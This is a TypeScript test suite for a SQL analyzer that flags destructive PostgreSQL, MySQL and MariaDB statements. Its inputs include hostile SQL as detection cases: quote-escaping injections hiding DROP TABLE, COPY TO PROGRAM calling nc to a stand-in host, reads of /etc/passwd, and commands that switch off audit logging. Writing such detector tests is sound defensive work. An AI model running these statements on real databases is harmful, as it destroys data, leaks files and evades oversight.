/** Own cases for each rule of the analysis: lexical guard, reconciliation, classification, dynamic SQL. */
import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { type Analysis, analyze, type AnalyzeOptions, type Dialect, loadAnalyzers, PreparedStatementTracker } from '../../src/analysis/index.js';

function a(dialect: Dialect, sql: unknown, extra: Partial<AnalyzeOptions> = {}): Analysis {
  return analyze(sql, { dialect, ...extra });
}

function destructive(dialect: Dialect, sql: string, extra: Partial<AnalyzeOptions> = {}): void {
  const r = a(dialect, sql, extra);
  assert.equal(r.destructive, true, `${sql} should be destructive; got ${r.kind} ${r.reasons.join('; ')}`);
}

function safe(dialect: Dialect, sql: string, kind?: Analysis['kind'], extra: Partial<AnalyzeOptions> = {}): void {
  const r = a(dialect, sql, extra);
  assert.equal(r.destructive, false, `${sql} should not be destructive: ${r.reasons.join('; ')}`);
  if (kind) assert.equal(r.kind, kind, sql);
}

before(async () => {
  await loadAnalyzers();
  await loadAnalyzers(); // idempotent
});

describe('lexical guard', () => {
  it('splits statements and ignores empty ones', () => {
    assert.equal(a('postgres', 'SELECT 1;; SELECT 2;').statementCount, 2);
    assert.equal(a('mysql', 'SELECT 1; SELECT 2;').statementCount, 2);
  });
  it('nests PostgreSQL block comments, not MySQL ones', () => {
    safe('postgres', '/* a /* b */ DROP TABLE x; */ SELECT 1', 'read');
    // In MySQL the first */ closes the comment: DROP TABLE x is code.
    const r = a('mysql', '/* a /* b */ DROP TABLE x; */ SELECT 1');
    assert.ok(r.destructive || r.kind === 'unknown');
  });
  it('honours E strings, dollar quotes and standard_conforming_strings', () => {
    safe('postgres', "SELECT E'\\'; DROP TABLE x; --'", 'read');
    safe('postgres', 'SELECT $tag$ ; DROP TABLE x; $tag$', 'read');
    safe('postgres', 'SELECT $$ ; DROP TABLE x; $$', 'read');
    destructive('postgres', "SELECT '\\'; DROP TABLE x; -- '");
    // standard_conforming_strings off: the backslash escapes the quote; the parser disagrees → unknown, never safe-and-wrong.
    const off = a('postgres', "SELECT '\\'; DROP TABLE x; -- '", { standardConformingStrings: false });
    assert.equal(off.kind, 'read');
    assert.equal(off.statementCount, 1);
  });
  it('follows MySQL backslash rules and NO_BACKSLASH_ESCAPES', () => {
    safe('mysql', "SELECT '\\'; DROP TABLE x; -- '", 'read', { backslashEscapes: true });
    destructive('mysql', "SELECT '\\'; DROP TABLE x; -- '", { backslashEscapes: false });
  });
  it('treats MySQL/MariaDB executable comments as code', () => {
    destructive('mysql', '/*!50000 DROP */ TABLE x');
    destructive('mysql', '/*!DROP TABLE x*/');
    destructive('mariadb', '/*M!100100 DROP TABLE x */');
    destructive('mariadb', 'SELECT 1 /*M! ; DROP TABLE x */');
    destructive('mysql', '/*!99999 TRUNCATE t */');
    const r = a('mysql', 'SELECT id FROM t /*!50000 UNION SELECT ssn FROM users */');
    assert.ok(r.objects.some((o) => o.name === 'users' && o.columns.includes('ssn')));
    assert.ok(r.reasons.some((x) => x.includes('executable comment')));
  });
  it('applies the MySQL `-- ` and `#` comment rules', () => {
    safe('mysql', 'SELECT 1 -- ; DROP TABLE x', 'read');
    safe('mysql', 'SELECT 1 # ; DROP TABLE x', 'read');
    destructive('mysql', '# cleanup\nDROP TABLE x');
    assert.equal(a('mysql', 'SELECT 1 --1').statementCount, 1);
  });
  it('refuses unterminated strings and comments', () => {
    for (const sql of ["SELECT 'abc", 'SELECT 1 /* open', 'SELECT $$ open', 'SELECT "open']) {
      const r = a('postgres', sql);
      assert.equal(r.kind, 'unknown', sql);
      assert.ok(r.reasons.length > 0);
    }
    assert.equal(a('mysql', 'SELECT 1 /*! DROP TABLE x').kind, 'unknown');
  });
  it('makes text unknown when a statement changes string lexing before more statements', () => {
    const r = a('mysql', "SET sql_mode = 'NO_BACKSLASH_ESCAPES'; SELECT '\\'; DROP TABLE x; -- '");
    assert.equal(r.kind, 'unknown');
    assert.equal(a('postgres', 'SET standard_conforming_strings = off; SELECT 1').kind, 'unknown');
    assert.equal(a('postgres', 'SET standard_conforming_strings = off').kind, 'admin');
  });
  it('reads U& strings without backslash-quote escapes and parenthesised set operations', () => {
    safe('postgres', "SELECT U&'\\0027; DROP TABLE x; --'", 'read');
    safe('postgres', '(SELECT 1) UNION (SELECT 2)', 'read');
    safe('mysql', '(SELECT id FROM users) UNION (SELECT id FROM orders)', 'read');
    destructive('postgres', '((DELETE FROM t))');
  });
  it('keeps routine bodies whole (BEGIN ATOMIC)', () => {
    const r = a('postgres', 'CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; SELECT 2; END');
    assert.equal(r.statementCount, 1);
    assert.equal(r.kind, 'ddl');
  });
});

describe('reconciliation', () => {
  it('parse errors are unknown, with the guard findings kept', () => {
    const r = a('postgres', 'SELEC * FROM users');
    assert.equal(r.kind, 'unknown');
    assert.ok(r.error);
    const m = a('mariadb', 'ANALYZE DELETE FROM t');
    assert.equal(m.kind, 'unknown');
    assert.equal(m.destructive, true);
  });
  it('empty or comment-only text is unknown', () => {
    assert.equal(a('postgres', '').kind, 'unknown');
    assert.equal(a('postgres', '  -- nothing').kind, 'unknown');
    assert.equal(a('mysql', '/* nothing */').kind, 'unknown');
  });
  it('the guard can only add severity', () => {
    // The guard flags set_config on a setting it cannot read as destructive even if a parser would not.
    destructive('postgres', 'SELECT set_config($1, $2, false)');
  });
  it('overall kind is the most severe statement kind', () => {
    const r = a('postgres', 'BEGIN; SELECT 1; GRANT SELECT ON t TO u; COMMIT');
    assert.equal(r.kind, 'dcl');
    assert.deepEqual(r.commands, ['BEGIN', 'SELECT', 'GRANT', 'COMMIT']);
  });
});

describe('destructive rules', () => {
  it('DROP, TRUNCATE, ALTER, RENAME, GRANT, REVOKE', () => {
    for (const sql of ['DROP TABLE t', 'DROP SCHEMA s CASCADE', 'TRUNCATE t', 'ALTER TABLE t ADD c int', 'ALTER TABLE t RENAME TO u', 'GRANT SELECT ON t TO u', 'REVOKE ALL ON t FROM u', 'ALTER ROLE app SUPERUSER', 'DROP DATABASE d', 'GRANT r TO u']) destructive('postgres', sql);
    for (const sql of ['DROP TABLE t', 'TRUNCATE TABLE t', 'ALTER TABLE t ADD c int', 'RENAME TABLE a TO b', "GRANT ALL ON *.* TO 'u'@'%'", "REVOKE SELECT ON db.t FROM 'u'@'%'", 'DROP USER bob']) destructive('mysql', sql);
  });
  it('DELETE/UPDATE without a real WHERE', () => {
    for (const sql of ['DELETE FROM t', 'DELETE FROM t WHERE 1=1', 'DELETE FROM t WHERE true', 'UPDATE t SET a=1 WHERE 1=1 OR id=2', 'DELETE FROM t WHERE NOT false', "UPDATE t SET a = 1 WHERE 'a' = 'a'", 'DELETE FROM t WHERE id = id', 'UPDATE t SET a = 1 WHERE 2 > 1']) destructive('postgres', sql);
    for (const sql of ['DELETE FROM t WHERE 1', "UPDATE t SET a=1 WHERE '1'", 'DELETE FROM t WHERE TRUE', 'DELETE FROM sessions LIMIT 100', 'UPDATE t SET a = 1 ORDER BY id LIMIT 5']) destructive('mysql', sql);
    safe('postgres', 'DELETE FROM t WHERE id = 1 AND true', 'write');
    safe('postgres', 'UPDATE t SET a = 1 WHERE id = $1', 'write');
    safe('mysql', 'DELETE FROM t WHERE id = ?', 'write');
  });
  it('data-modifying CTEs', () => {
    destructive('postgres', 'WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x');
    destructive('postgres', 'WITH x AS (UPDATE t SET a = 1 RETURNING id) SELECT 1');
    const r = a('postgres', 'WITH x AS (UPDATE t SET a=1 WHERE id=1 RETURNING id) SELECT * FROM x');
    assert.equal(r.kind, 'write');
    assert.equal(r.destructive, false);
  });
  it('EXPLAIN ANALYZE of a write executes it; plain EXPLAIN does not', () => {
    destructive('postgres', 'EXPLAIN ANALYZE DELETE FROM t');
    destructive('postgres', 'EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1');
    destructive('mysql', 'EXPLAIN ANALYZE DELETE FROM t');
    safe('postgres', 'EXPLAIN DELETE FROM t', 'read');
    safe('postgres', 'EXPLAIN ANALYZE SELECT 1', 'read');
  });
  it('server files and programs', () => {
    destructive('postgres', "COPY users TO PROGRAM 'nc evil 9'");
    destructive('postgres', "COPY users FROM PROGRAM 'curl x'");
    destructive('postgres', "COPY users TO '/tmp/x'");
    destructive('postgres', "COPY users FROM '/tmp/x'");
    safe('postgres', 'COPY users TO STDOUT', 'read');
    safe('postgres', 'COPY users FROM STDIN', 'write');
    destructive('mysql', "SELECT * FROM users INTO OUTFILE '/tmp/u.csv'");
    destructive('mysql', "SELECT id INTO OUTFILE '/tmp/x' FIELDS TERMINATED BY ',' FROM users");
    destructive('mysql', "SELECT 1 INTO DUMPFILE '/tmp/x'");
    destructive('mysql', "LOAD DATA INFILE '/tmp/u.csv' INTO TABLE users");
    safe('mysql', "LOAD DATA LOCAL INFILE '/tmp/u.csv' INTO TABLE users", 'write');
    destructive('mysql', "SELECT LOAD_FILE('/etc/passwd')");
  });
  it('audit and log switches', () => {
    for (const sql of ["SET pgaudit.log = 'none'", "SET LOCAL pgaudit.log = 'none'", "SELECT set_config('pgaudit.log', 'none', false)", "ALTER SYSTEM SET log_statement = 'none'", 'SET session_replication_role = replica', "SET log_statement = 'none'", 'RESET ALL', "ALTER DATABASE d SET pgaudit.log = 'none'"]) destructive('postgres', sql);
    for (const sql of ['SET sql_log_bin=0', 'SET @@session.sql_log_bin = 0', 'SET SESSION sql_log_bin = 0', "SET GLOBAL general_log = 'OFF'", 'SET GLOBAL slow_query_log = 0', 'SET @a = 1, sql_log_bin = 0']) destructive('mysql', sql);
    destructive('mariadb', 'SET GLOBAL server_audit_logging = OFF');
    safe('postgres', 'SET search_path TO app, public', 'admin');
    safe('postgres', "SELECT set_config('app.tenant_id', '42', true)", 'admin');
    safe('mysql', 'SET NAMES utf8mb4', 'admin');
    safe('mysql', 'SET @a = 1', 'admin');
  });
  it('dynamic SQL', () => {
    destructive('postgres', "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$");
    destructive('postgres', 'CALL cleanup()');
    destructive('postgres', 'EXECUTE p(1)');
    destructive('mysql', 'CALL sp()');
    destructive('mysql', 'EXECUTE s');
    destructive('mysql', 'PREPARE s FROM @q');
    assert.equal(a('postgres', 'DO $$ BEGIN END $$').kind, 'exec');
    // MySQL DO evaluates expressions; it is not dynamic SQL.
    safe('mysql', 'DO SLEEP(1)', 'read');
  });
  it('side-effect functions', () => {
    for (const sql of ['SELECT pg_terminate_backend(1)', 'SELECT pg_catalog.pg_cancel_backend(1)', "SELECT set_config('search_path', 'x', false)", "SELECT lo_export(1, '/tmp/x')", "SELECT pg_read_file('/etc/passwd')", "SELECT dblink_exec('dbname=x', 'DROP TABLE t')", 'SELECT pg_reload_conf()', "SELECT * FROM dblink('x', 'DELETE FROM t') AS r(a int)"]) destructive('postgres', sql);
    assert.equal(a('postgres', 'SELECT pg_terminate_backend(1)').kind, 'admin');
    assert.equal(a('postgres', "SELECT dblink_exec('x', 'y')").kind, 'exec');
  });
  it('session and server administration', () => {
    destructive('mysql', 'KILL 42');
    destructive('mysql', 'SET GLOBAL max_connections = 10');
    destructive('mariadb', 'CREATE OR REPLACE TABLE t (a int)');
    destructive('postgres', 'CREATE ROLE x SUPERUSER');
    destructive('postgres', "LOAD 'auto_explain'");
    const un = a('mysql', 'UNINSTALL PLUGIN server_audit');
    assert.ok(un.destructive && un.kind === 'unknown');
  });
  it('ordinary statements are not destructive', () => {
    for (const sql of ['SELECT 1', 'INSERT INTO t (a) VALUES (1)', 'CREATE TABLE t (a int)', 'CREATE INDEX i ON t (a)', 'BEGIN', 'COMMIT', 'SELECT * FROM t FOR UPDATE', 'VACUUM t', 'LISTEN x', 'SHOW search_path']) safe('postgres', sql);
    for (const sql of ['SELECT 1', 'INSERT INTO t (a) VALUES (1)', 'REPLACE INTO t (a) VALUES (1)', 'START TRANSACTION', 'LOCK TABLES t WRITE', 'SHOW TABLES', 'SHOW GRANTS FOR CURRENT_USER', 'USE db', 'TABLE users']) safe('mysql', sql);
  });
});

describe('classification kinds', () => {
  const cases: Array<[Dialect, string, Analysis['kind']]> = [
    ['postgres', 'SELECT 1', 'read'], ['postgres', 'TABLE users', 'read'], ['postgres', 'INSERT INTO t VALUES (1)', 'write'],
    ['postgres', 'CREATE TABLE t (a int)', 'ddl'], ['postgres', 'GRANT SELECT ON t TO u', 'dcl'], ['postgres', 'SET work_mem = 1', 'admin'],
    ['postgres', 'BEGIN', 'tcl'], ['postgres', 'CALL p()', 'exec'], ['postgres', 'SELECT a INTO newt FROM t', 'ddl'],
    ['mysql', 'SELECT 1', 'read'], ['mysql', 'UPDATE t SET a=1 WHERE id=1', 'write'], ['mysql', 'CREATE TABLE t (a int)', 'ddl'],
    ['mysql', 'CREATE USER bob', 'dcl'], ['mysql', 'KILL 1', 'admin'], ['mysql', 'COMMIT', 'tcl'], ['mysql', 'CALL p()', 'exec'],
  ];
  for (const [d, sql, kind] of cases) it(`${d}: ${sql} → ${kind}`, () => assert.equal(a(d, sql).kind, kind));
});

describe('prepared statements', () => {
  it('resolves PREPARE then EXECUTE in one text', () => {
    const r = a('postgres', 'PREPARE p AS DELETE FROM t; EXECUTE p');
    assert.deepEqual(r.statements.map((s) => s.kind), ['write', 'exec']);
    assert.equal(r.destructive, true);
    const ok = a('mysql', "PREPARE s FROM 'SELECT id FROM users WHERE id = ?'; EXECUTE s USING @a");
    assert.equal(ok.destructive, false);
    assert.ok(ok.objects.some((o) => o.name === 'users'));
  });
  it('tracks PREPARE → EXECUTE across texts per connection', () => {
    const conn1 = new PreparedStatementTracker({ dialect: 'postgres' });
    const conn2 = new PreparedStatementTracker({ dialect: 'postgres' });
    conn1.apply(a('postgres', 'PREPARE q AS SELECT id FROM users WHERE id = $1'));
    const exec = a('postgres', 'EXECUTE q(1)');
    assert.equal(exec.destructive, true, 'alone, EXECUTE of an unknown statement is destructive');
    const r1 = conn1.apply(exec);
    assert.equal(r1.destructive, false);
    assert.ok(r1.objects.some((o) => o.name === 'users'));
    assert.ok(Object.isFrozen(r1));
    assert.equal(conn2.apply(exec).destructive, true, 'another connection does not know q');
    conn1.apply(a('postgres', 'PREPARE d AS DELETE FROM t'));
    assert.equal(conn1.apply(a('postgres', 'EXECUTE d')).destructive, true);
    conn1.apply(a('postgres', 'DEALLOCATE q'));
    assert.equal(conn1.apply(exec).destructive, true);
    conn1.apply(a('postgres', 'DISCARD ALL'));
    assert.equal(conn1.size, 0);
  });
  it('MySQL names are case-insensitive', () => {
    const t = new PreparedStatementTracker({ dialect: 'mysql' });
    t.apply(a('mysql', "PREPARE Stmt FROM 'SELECT 1'"));
    assert.equal(t.apply(a('mysql', 'EXECUTE stmt')).destructive, false);
    t.apply(a('mysql', 'DEALLOCATE PREPARE STMT'));
    assert.equal(t.apply(a('mysql', 'EXECUTE stmt')).destructive, true);
  });
});

describe('bad input', () => {
  it('never throws and answers unknown with a reason', () => {
    const inputs: unknown[] = [undefined, null, 42, {}, [], Buffer.from('SELECT 1'), Symbol('x'), 'SELECT 1\u0000; DROP TABLE x', 'SELECT \uD800', Buffer.from([0xff, 0xfe, 0x41]).toString('utf8')];
    for (const x of inputs) {
      for (const d of ['postgres', 'mysql'] as const) {
        const r = analyze(x, { dialect: d });
        assert.equal(r.kind, 'unknown');
        assert.ok(r.reasons.length > 0);
        assert.ok(Object.isFrozen(r));
      }
    }
  });
  it('refuses a 10 MB statement without parsing it', () => {
    const big = `SELECT ${'1 + '.repeat(2_500_000)}1`;
    const t0 = performance.now();
    const r = analyze(big, { dialect: 'postgres' });
    assert.equal(r.kind, 'unknown');
    assert.ok(r.reasons[0]?.includes('longer than'));
    assert.ok(performance.now() - t0 < 100);
  });
  it('bad options do not throw', () => {
    assert.equal(analyze('SELECT 1', { dialect: 'oracle' as Dialect }).kind, 'unknown');
    assert.equal(analyze('SELECT 1', null as unknown as AnalyzeOptions).kind, 'unknown');
  });
  it('results are deeply frozen', () => {
    const r = a('postgres', 'SELECT id FROM users');
    assert.ok(Object.isFrozen(r) && Object.isFrozen(r.statements) && Object.isFrozen(r.objects) && Object.isFrozen(r.objects[0]));
  });
});

describe('ambiguous backslash escaping (session setting unknown)', () => {
  it('a DROP hidden by a backslash under one setting is reported under the other', () => {
    const my = analyze("SELECT 'a\\'; DROP TABLE t; -- '", { dialect: 'mysql' });
    assert.equal(my.destructive, true);
    assert.equal(my.kind, 'ddl');
    const pgText = "SELECT 'a\\'; DROP TABLE t; -- '";
    assert.equal(analyze(pgText, { dialect: 'postgres' }).destructive, true);
    // With the session setting known, each reading stands on its own.
    assert.equal(analyze(pgText, { dialect: 'postgres', standardConformingStrings: false }).destructive, false);
    assert.equal(analyze("SELECT 'a\\'; DROP TABLE t; -- '", { dialect: 'mysql', backslashEscapes: true }).destructive, false);
  });
  it('plain texts with backslashes stay what they are', () => {
    assert.equal(analyze("SELECT * FROM t WHERE path = 'C:\\\\tmp'", { dialect: 'mysql' }).kind, 'read');
  });
});
